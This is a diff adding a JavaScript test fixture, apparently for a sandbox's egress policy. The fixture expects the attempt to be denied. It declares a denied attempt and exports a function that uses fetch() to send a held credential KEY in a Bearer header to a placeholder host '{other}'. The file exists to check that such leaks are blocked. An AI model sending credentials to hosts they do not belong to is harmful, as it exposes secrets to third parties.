@@ -1,0 +1,14 @@
+export const attempt = {
+  tries: "to send a value that it was given itself to another host in a header",
+  refusedBecause: "requests to other hosts are searched for it",
+  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
+  receipt: { host: "{other}", reason: "it would be sent the credential KEY" },
+  allowedHosts: ["http://{witness}", "http://{other}"],
+  keyHosts: ["http://{witness}"],
+  keyIsExposed: true,
+};
+
+export default async ({ other }, { credentials }) => {
+  await fetch(`http://${other}/reached`, { headers: { "x-key": `Bearer ${credentials.KEY}` } });
+  return "got through";
+};
